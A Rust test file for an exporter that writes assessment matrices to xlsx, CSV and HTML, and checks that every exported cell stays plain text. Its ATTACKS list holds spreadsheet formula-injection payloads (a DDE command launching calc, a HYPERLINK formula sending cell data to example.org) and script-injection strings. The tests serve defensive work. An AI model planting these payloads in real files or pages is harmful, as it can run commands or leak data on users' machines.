//! What goes out is read back by other readers and says what the matrix says; nothing in it runs, whatever the names and texts.
#![allow(
    clippy::wildcard_enum_match_arm,
    reason = "a test looks for one kind among many and fails on every other"
)]

use std::collections::BTreeSet;
use std::io::{Cursor, Read as _};

use calamine::{Data, Reader as _, Xlsx};
use quick_xml::events::Event;

use super::*;
use crate::matrix::layout::clean::{line, prose};
use crate::matrix::samples::{draft, hostile, large, signed, trainee};
use crate::matrix::{Counts, Outcome, Row, words};
use crate::unit::import::delimited::{records, unguarded};

/// What spreadsheets have been made to run, and what breaks out of cells and elements.
const ATTACKS: [&str; 14] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+HYPERLINK(\"http://example.org?\"&A1,\"see\")",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "a\",=1+1,\"",
    "a;=1+1",
    "'=1+1",
    "</td><script>alert(1)</script><td onclick=\"x()\">",
    "&#x3C;img src=x onerror=alert(1)&#x3E; &C&\"Arial\"&99",
];

/// A matrix in which every text is an attack.
fn attacked(with: &str) -> Matrix {
    let text = || with.to_owned();
    let mut matrix = signed();
    matrix.learner.name = text();
    matrix.learner.uln = Some(text());
    matrix.unit.title = text();
    matrix.unit.source = Some(text());
    matrix.unit.urn = Some(text());
    matrix.people.assessor = Some(text());
    for outcome in &mut matrix.outcomes {
        outcome.code = text();
        outcome.text = text();
        for row in &mut outcome.rows {
            (row.code, row.text, row.reason) = (text(), text(), Some(text()));
            row.told = Some(crate::matrix::Told { feedback: text(), needed: text(), due: Some(text()) });
            row.again = Some(text());
            (row.assessor_initials, row.decided_on) = (Some(text()), Some(text()));
            for mapping in &mut row.mappings {
                (mapping.title, mapping.place, mapping.method) = (text(), Some(text()), text());
                mapping.note = Some(text());
            }
        }
    }
    for item in &mut matrix.evidence {
        (item.title, item.kind, item.author, item.kept) = (text(), text(), Some(text()), Some(text()));
    }
    for file in &mut matrix.annex {
        file.file_name = text();
    }
    for declaration in &mut matrix.declarations {
        (declaration.text, declaration.name) = (text(), Some(text()));
    }
    matrix
}

fn all() -> Vec<Matrix> {
    let mut empty = draft();
    (empty.outcomes, empty.evidence, empty.annex) = (Vec::new(), Vec::new(), Vec::new());
    (empty.declarations, empty.counts) = (Vec::new(), Counts::default());
    let mut all = vec![signed(), draft(), trainee(), hostile(), large(120, 60), empty];
    all.extend(ATTACKS.map(attacked));
    all
}

fn rows(matrix: &Matrix) -> impl Iterator<Item = &Row> {
    matrix.outcomes.iter().flat_map(|outcome| &outcome.rows)
}

fn sheet(bytes: &[u8], name: &str) -> calamine::Range<Data> {
    Xlsx::new(Cursor::new(bytes.to_vec())).unwrap().worksheet_range(name).unwrap()
}

fn cell(range: &calamine::Range<Data>, at: (u32, u32)) -> String {
    match range.get_value(at) {
        None | Some(Data::Empty) => String::new(),
        Some(Data::String(text)) => text.clone(),
        other => panic!("{other:?} at {at:?} is no text"),
    }
}

/// Everything inside a workbook by name.
fn parts(bytes: &[u8]) -> Vec<(String, String)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).unwrap();
    (0..archive.len())
        .map(|at| {
            let mut file = archive.by_index(at).unwrap();
            let mut text = String::new();
            file.read_to_string(&mut text).unwrap();
            (file.name().unwrap().into_owned(), text)
        })
        .collect()
}

#[test]
fn a_workbook_says_what_the_matrix_says_and_every_cell_is_text() {
    for matrix in all() {
        let bytes = write(&matrix, Format::Xlsx).unwrap();
        let grid = sheet(&bytes, "Matrix");
        let items = u32::try_from(matrix.evidence.len()).unwrap();
        let mut at = 4;
        for outcome in &matrix.outcomes {
            assert_eq!(cell(&grid, (at, 1)), prose(&outcome.text));
            at += 1;
            for row in &outcome.rows {
                assert_eq!(cell(&grid, (at, 0)), line(&words::code(row)));
                for (column, item) in (2..).zip(&matrix.evidence) {
                    let said = cell(&grid, (at, column));
                    let own: Vec<_> = row.mappings.iter().filter(|m| m.reference == item.number).collect();
                    assert_eq!(said.is_empty(), own.is_empty(), "{} × {}", row.code, item.number);
                    let whole = |m: &&&crate::matrix::MappingLine| said.contains(&line(words::place(m)));
                    assert_eq!(own.iter().filter(whole).count(), own.len(), "{said}");
                }
                if row.is_gap() {
                    let text: String =
                        (2 + items..grid.width() as u32).map(|c| cell(&grid, (at, c))).collect();
                    assert!(text.contains(words::GAP), "{text}");
                }
                at += 1;
            }
        }
        let listed = sheet(&bytes, "Criteria");
        for (at, row) in (1..).zip(rows(&matrix)) {
            let evidence = cell(&listed, (at, 3));
            assert!(row.mappings.iter().all(|m| evidence.contains(&line(&m.title))), "{evidence}");
            assert!(cell(&listed, (at, 4)).contains(words::outcome(row.decision)) || row.is_gap());
        }
        let reasons: Vec<String> = (1..).zip(rows(&matrix)).map(|(at, _)| cell(&listed, (at, 5))).collect();
        for (row, reason) in rows(&matrix).zip(&reasons) {
            assert!(words::again(row).is_none_or(|again| reason.contains(&prose(&again))), "{reason}");
        }
        let about = sheet(&bytes, "About");
        let initials = line(&words::initials(&matrix.people));
        let said = (0..about.height() as u32).any(|at| cell(&about, (at, 1)) == initials);
        assert!(said, "whose initials stand in the rows: {initials}");
        let evidence = sheet(&bytes, "Evidence");
        for (at, item) in (1..).zip(&matrix.evidence) {
            assert_eq!(cell(&evidence, (at, 1)), line(&item.title));
        }
        assert!(!format!("{evidence:?}").contains("SHA-256"), "file checks stand in the annex alone");
        let files = sheet(&bytes, "Files");
        for (at, file) in (1..).zip(&matrix.annex) {
            let told = [0, 1, 3].map(|column| cell(&files, (at, column)));
            assert_eq!(told, [line(&file.number), line(&file.file_name), file.sha256.clone()]);
        }
    }
}

#[test]
fn no_cell_of_a_workbook_is_or_becomes_a_formula() {
    for attack in ATTACKS {
        let bytes = write(&attacked(attack), Format::Xlsx).unwrap();
        for (name, text) in parts(&bytes) {
            let formula = text.contains("<f>") || text.contains("<f ") || text.contains("hyperlink");
            assert!(!formula, "{attack:?} in {name}");
            if name == "xl/styles.xml" && line(attack).starts_with(['=', '+', '-', '@', '＝']) {
                assert!(
                    text.contains("quotePrefix=\"1\""),
                    "{attack:?} becomes a formula when the cell is edited"
                );
            }
        }
    }
}

#[test]
fn a_workbook_prints_its_headings_on_every_page_and_is_the_same_bytes_again() {
    let bytes = write(&signed(), Format::Xlsx).unwrap();
    assert!(bytes == write(&signed(), Format::Xlsx).unwrap());
    let all = parts(&bytes);
    let part = |name: &str| &all.iter().find(|(own, _)| own == name).unwrap().1;
    let (book, first) = (part("xl/workbook.xml"), part("xl/worksheets/sheet1.xml"));
    assert!(book.contains("_xlnm.Print_Titles") && book.contains("Matrix!$A:$B,Matrix!$4:$4"), "{book}");
    assert_eq!(book.matches("_xlnm._FilterDatabase").count(), 4, "{book}");
    assert!(first.contains("xSplit=\"2\" ySplit=\"4\"") && first.contains("state=\"frozen\""), "{first}");
    assert!(first.contains("orientation=\"landscape\"") && first.contains("paperSize=\"9\""));
}

#[test]
fn a_cell_takes_no_more_than_the_format_allows_and_says_that_it_was_cut() {
    let mut matrix = signed();
    matrix.outcomes[0].rows[0].text = "é".repeat(40_000);
    let bytes = write(&matrix, Format::Xlsx).unwrap();
    assert!(cell(&sheet(&bytes, "Matrix"), (5, 1)).ends_with('…'));
}

#[test]
fn csv_has_a_row_for_each_link_and_no_cell_runs() {
    for matrix in all() {
        let read = records(&write(&matrix, Format::Csv).unwrap()).unwrap();
        let links: usize = rows(&matrix).map(|row| row.mappings.len().max(1)).sum();
        assert_eq!(read.rows.len(), links + 1);
        assert_eq!(read.rows[0].cells, csv::COLUMNS);
        let mut lines = read.rows.iter().skip(1);
        for row in rows(&matrix) {
            for at in 0..row.mappings.len().max(1) {
                let cells = &lines.next().unwrap().cells;
                assert_eq!(cells.len(), csv::COLUMNS.len());
                for cell in cells {
                    assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']), "{cell:?}");
                }
                assert_eq!(unguarded(&cells[9]), prose(&words::code(row)));
                let title = row.mappings.get(at).map(|m| prose(&m.title)).unwrap_or_default();
                assert_eq!(unguarded(&cells[12]), title);
                assert_eq!(cells[16], words::outcome(row.decision));
                assert_eq!(unguarded(&cells[22]), prose(&row.again.clone().unwrap_or_default()));
                assert_eq!(cells[27].is_empty(), !row.is_gap());
            }
        }
    }
}

#[test]
fn a_web_page_is_whole_holds_nothing_that_runs_and_every_link_in_it_leads_somewhere() {
    let elements: BTreeSet<&str> =
        "html head meta title style body main header section h1 h2 h3 p b strong em a bdi br dl div dt dd table caption thead tbody tr th td ul li span code"
            .split(' ')
            .collect();
    let attributes: BTreeSet<&str> =
        "lang charset http-equiv content name class href id tabindex aria-labelledby scope colspan"
            .split(' ')
            .collect();
    for matrix in all() {
        let page = String::from_utf8(write(&matrix, Format::Html).unwrap()).unwrap();
        let mut reader = quick_xml::Reader::from_str(&page);
        let (mut ids, mut links, mut text) = (BTreeSet::new(), Vec::new(), String::new());
        loop {
            match reader.read_event().unwrap() {
                Event::Eof => break,
                Event::Start(tag) | Event::Empty(tag) => {
                    let name = tag.name().as_ref().to_owned();
                    assert!(elements.contains(name.as_str()), "<{name}>");
                    for attribute in tag.attributes() {
                        let attribute = attribute.unwrap();
                        let key = attribute.key.as_ref().to_owned();
                        assert!(attributes.contains(key.as_str()), "{key}");
                        let value = attribute.value.into_owned();
                        match key.as_str() {
                            "id" => assert!(ids.insert(value)),
                            "href" => links.push(value.strip_prefix('#').unwrap().to_owned()),
                            _other => {}
                        }
                    }
                }
                Event::Text(own) => text.push_str(&own),
                Event::GeneralRef(own) => {
                    let letter = match &*own {
                        "amp" => "&",
                        "lt" => "<",
                        "gt" => ">",
                        "quot" => "\"",
                        "#39" => "'",
                        other => panic!("{other}"),
                    };
                    text.push_str(letter);
                }
                _other => {}
            }
        }
        assert!(links.iter().all(|link| ids.contains(link)), "{links:?}");
        for row in rows(&matrix) {
            assert!(text.contains(&line(&words::code(row))));
            for mapping in row.mappings.iter().filter(|_| !row.is_gap()) {
                assert!(text.contains(&line(&mapping.title)) && text.contains(&line(words::place(mapping))));
            }
        }
        assert_eq!(text.matches(words::GAP).count(), rows(&matrix).filter(|row| row.is_gap()).count());
        assert_eq!(text.contains("Not for certification claim."), matrix.indicative);
        assert!(text.contains(words::notice(&matrix)));
        let key = line(&words::initials(&matrix.people));
        assert!(matrix.outcomes.is_empty() || text.contains(&key), "whose initials stand in the rows: {key}");
        let met = rows(&matrix).filter(|row| row.decision == Outcome::Met).count();
        assert_eq!(page.matches("<td class=\"met\">Met</td>").count(), met);
    }
}

#[test]
fn a_format_is_known_by_its_name_and_an_unknown_one_is_answered_with_those_there_are() {
    for format in Format::ALL {
        assert_eq!(format.name().parse::<Format>().unwrap(), format);
    }
    let said = "docx".parse::<Format>().unwrap_err().to_string();
    assert!(said.contains("docx") && said.contains("pdf, xlsx, csv, html, json"), "{said}");
}
